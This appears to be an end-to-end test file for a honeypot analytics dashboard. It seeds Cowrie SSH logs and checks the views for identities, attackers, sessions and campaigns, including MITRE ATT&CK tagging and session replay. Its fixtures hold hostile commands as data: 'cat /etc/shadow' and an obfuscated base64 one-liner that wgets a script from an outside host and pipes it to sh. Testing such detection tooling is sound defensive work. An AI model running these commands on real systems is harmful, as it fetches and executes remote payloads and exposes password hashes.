/** Who did what: identities, attackers, sessions and campaigns, as people look at them. */
import { appendFile, readFile } from 'node:fs/promises';

import type { Page } from 'playwright-core';
import { beforeAll, expect, test } from 'vitest';

import { violations } from './axe';
import { asked, comesTrue, isDrawn, logIn, visit, type Items } from './browser';
import { onStage } from './stage';

const LONG = 1_500;
const TYPIST = '203.0.113.50';

const stage = onStage();

/** What Cowrie writes while somebody types. */
function cowrie(session: string, src_ip: string, eventid: string, at: number, fields: object = {}): string {
  const timestamp = new Date(Date.UTC(2026, 10, 20, 12, 0, 0) + at * 1000).toISOString().replace('Z', '000Z');
  return `${JSON.stringify({ eventid, timestamp, session, src_ip, protocol: 'ssh', sensor: 'svr04', message: '', ...fields })}\n`;
}

/** A session with many commands, every hundredth of which says something. */
function longSession(): string {
  const typed = Array.from({ length: LONG }, (_, at) =>
    cowrie('a1', TYPIST, 'cowrie.command.input', at, { input: at % 100 === 0 ? 'cat /etc/shadow' : `true ${at}` }),
  );
  return cowrie('a1', TYPIST, 'cowrie.session.connect', 0) + typed.join('');
}

let page: Page;
let faults: string[];

beforeAll(async () => {
  await appendFile(stage.at.log, longSession());
  ({ page, faults } = await visit(stage.browser, { permissions: ['clipboard-read', 'clipboard-write'] }));
  await logIn(page, stage.at, stage.at.viewer);
  await comesTrue('the long session is stored whole', async () => {
    const { items } = await asked<Items<unknown>>(page, `/sessions?min_commands=${LONG}`);
    return items.length === 1;
  });
  await comesTrue('somebody is in a campaign with others', async () => {
    const { items } = await asked<Items<{ identities: number }>>(page, '/campaigns?limit=1000');
    return items.some((one) => one.identities > 1);
  });
});

test('an identity shows its techniques, which open to the lines that prove them', async () => {
  await page.goto(`${stage.at.url}/identities?sort=techniques`);
  await page.getByRole('table', { name: 'Identities' }).getByRole('link').first().click();
  const tree = page.getByRole('treegrid', { name: 'Techniques' });
  const row = tree.getByRole('row', { name: /T1105 Ingress Tool Transfer/ });
  await row.focus();
  await page.keyboard.press('Enter');
  await page.waitForURL(/open=TA0011/);
  const line = tree
    .getByRole('list', { name: /Evidence of T1105/ })
    .getByRole('button')
    .first();
  await line.click();
  await page.getByRole('complementary', { name: 'Tag' }).getByRole('heading', { name: /T1105/ }).waitFor();
  await page.keyboard.press('Escape');
  await page.getByRole('heading', { name: /taken for one|One address/ }).waitFor();
  await page.getByRole('heading', { name: 'Accounts tried' }).waitFor();
  expect(await violations(page)).toEqual([]);
  expect(faults).toEqual([]);
});

test('an identity becomes a layer of the Navigator', async () => {
  await page.goto(`${stage.at.url}/identities?sort=techniques`);
  await page.getByRole('table', { name: 'Identities' }).getByRole('link').first().click();
  await page.getByRole('treegrid').waitFor();
  const saving = page.waitForEvent('download');
  await page.getByRole('link', { name: 'Navigator layer' }).click();
  const file = await (await saving).path();
  const layer = JSON.parse(await readFile(file, 'utf8')) as {
    versions: { layer: string };
    domain: string;
    techniques: { techniqueID: string }[];
  };
  expect(layer.versions.layer).toBe('4.5');
  expect(layer.domain).toBe('enterprise-attack');
  expect(layer.techniques.map(({ techniqueID }) => techniqueID)).toContain('T1105');
});

test('a replay marks what matched, unfolds what was hidden, and copies what was typed', async () => {
  const { items } = await asked<Items<{ uuid: string; address: string }>>(page, '/sessions?min_commands=10');
  const hider = items.find(({ address }) => address === '198.51.100.19');
  await page.goto(`${stage.at.url}/sessions/${hider?.uuid ?? ''}`);
  const step = page.getByRole('listitem').filter({ hasText: 'Y2QgL3RtcDsgd2dldCAt' }).first();
  await step.waitFor();
  expect(await step.locator('mark').allTextContents()).toEqual(['base64 -d', 'sh']);
  const layer = step.getByRole('list', { name: 'Decoded' }).getByRole('listitem');
  expect(await layer.allTextContents()).toEqual(['base64 cd /tmp; wget -q http://192.88.99.7/bins.sh; sh bins.sh']);
  await step.getByRole('button', { name: /T1140/ }).focus();
  expect(await step.locator('mark').allTextContents()).toEqual(['base64 -d']);
  await step.getByRole('button', { name: /Copy step/ }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
    'echo Y2QgL3RtcDsgd2dldCAtcSBodHRwOi8vMTkyLjg4Ljk5LjcvYmlucy5zaDsgc2ggYmlucy5zaA== | base64 -d | sh',
  );
  await step.getByRole('button', { name: /T1105/ }).click();
  await page.getByRole('complementary', { name: 'Tag' }).getByRole('heading', { name: /T1105/ }).waitFor();
  await page.keyboard.press('Escape');
  expect(await violations(page)).toEqual([]);
  expect(faults).toEqual([]);
});

test('j and k step through a session', async () => {
  const { items } = await asked<Items<{ uuid: string; address: string }>>(page, '/sessions?min_commands=10');
  await page.goto(`${stage.at.url}/sessions/${items.find(({ address }) => address === '198.51.100.15')?.uuid ?? ''}`);
  await page.getByRole('list', { name: 'Steps' }).getByRole('listitem').first().waitFor();
  const current = page.locator('[aria-current=step]');
  for (const [key, place] of [
    ['j', '1'],
    ['j', '2'],
    ['j', '3'],
    ['k', '2'],
  ] as const) {
    await page.keyboard.press(key);
    await page.waitForFunction(
      (wanted) => document.querySelector('[aria-current=step]')?.getAttribute('aria-posinset') === wanted,
      place,
    );
  }
  expect(await current.count()).toBe(1);
});

test('of a long session only what is in sight is drawn, and a link leads to any step of it', async () => {
  const { items } = await asked<Items<{ uuid: string; address: string }>>(page, `/sessions?min_commands=${LONG}`);
  const uuid = items[0]?.uuid ?? '';
  await page.goto(`${stage.at.url}/sessions/${uuid}`);
  await page.getByText('true 1', { exact: true }).waitFor();
  const found = await asked<Items<{ id: string }>>(page, `/events?text=${encodeURIComponent(`true ${LONG - 1}`)}`);
  await page.goto(`${stage.at.url}/sessions/${uuid}?event=${found.items[0]?.id ?? ''}`);
  await page.getByText(`true ${LONG - 1}`, { exact: true }).waitFor();
  expect(await page.getByRole('list', { name: 'Steps' }).getByRole('listitem').count()).toBeLessThan(150);
  expect(faults).toEqual([]);
});

test('sessions are narrowed down in the address', async () => {
  await page.goto(`${stage.at.url}/sessions`);
  await page.getByLabel('Logged in').selectOption('yes');
  await page.getByLabel('Protocol').fill('telnet');
  await page.getByLabel('Protocol').press('Enter');
  await page.waitForURL(
    (url) => url.searchParams.get('protocol') === 'telnet' && url.searchParams.get('in') === 'true',
  );
  await isDrawn(page);
  const rows = page.getByRole('table', { name: 'Sessions' }).getByRole('row').filter({ hasNotText: 'Attacker' });
  await expect.poll(() => rows.allTextContents()).not.toContainEqual(expect.stringContaining('failed'));
  expect(await rows.count()).toBeGreaterThan(0);
  expect((await rows.allTextContents()).every((text) => text.includes('telnet'))).toBe(true);
});

test('an attacker has its techniques, its sessions over time and its fingerprints', async () => {
  await page.goto(`${stage.at.url}/attackers?address=198.51.100.15`);
  await page.getByRole('table', { name: 'Attackers' }).getByRole('link', { name: '198.51.100.15' }).click();
  await page.getByRole('heading', { level: 1, name: /198\.51\.100\.15/ }).waitFor();
  await page.getByRole('treegrid', { name: 'Techniques' }).getByText('T1105').first().waitFor();
  expect(await violations(page)).toEqual([]);
  await page
    .getByRole('link', { name: /ssh.*commands.*tags/ })
    .first()
    .click();
  await page.waitForURL(/\/sessions\//);
});

test('a campaign shows who did what when, who took over from whom, and why', async () => {
  const { items } = await asked<Items<{ uuid: string; identities: number }>>(page, '/campaigns?limit=1000');
  const campaign = items.find(({ identities }) => identities > 1);
  await page.goto(`${stage.at.url}/campaigns/${campaign?.uuid ?? ''}`);
  await page
    .getByRole('img', { name: /Discovery from/ })
    .first()
    .waitFor();
  await page
    .getByRole('button', { name: /Hand-off from/ })
    .first()
    .focus();
  await page.getByText(/left persistence or a channel on decoy-ssh-01/).waitFor();
  await page.getByRole('heading', { name: 'Why they belong together' }).waitFor();
  await page.getByRole('treegrid', { name: 'Techniques' }).waitFor();
  expect(await violations(page)).toEqual([]);
  expect(faults).toEqual([]);
});

test.each(['identities', 'attackers', 'sessions', 'campaigns'])('%s can be read by everybody', async (list) => {
  await page.goto(`${stage.at.url}/${list}`);
  await isDrawn(page);
  await page.getByRole('table').getByRole('link').first().waitFor();
  expect(await violations(page)).toEqual([]);
});

test('a tablet needs no scrolling sideways', async () => {
  const tablet = await visit(stage.browser, { viewport: { width: 820, height: 1100 } });
  await logIn(tablet.page, stage.at, stage.at.viewer);
  const { items } = await asked<Items<{ uuid: string }>>(tablet.page, '/identities?sort=techniques');
  const paths = ['/identities', `/identities/${items[0]?.uuid ?? ''}`, '/attackers', '/sessions', '/campaigns'];
  for (const path of paths) {
    await tablet.page.goto(stage.at.url + path);
    await isDrawn(tablet.page);
    const [wide, room] = await tablet.page.evaluate(() => {
      const frame = document.querySelector('#page');
      return [frame?.scrollWidth ?? 0, frame?.clientWidth ?? 0];
    });
    expect(wide, path).toBeLessThanOrEqual(room);
  }
});
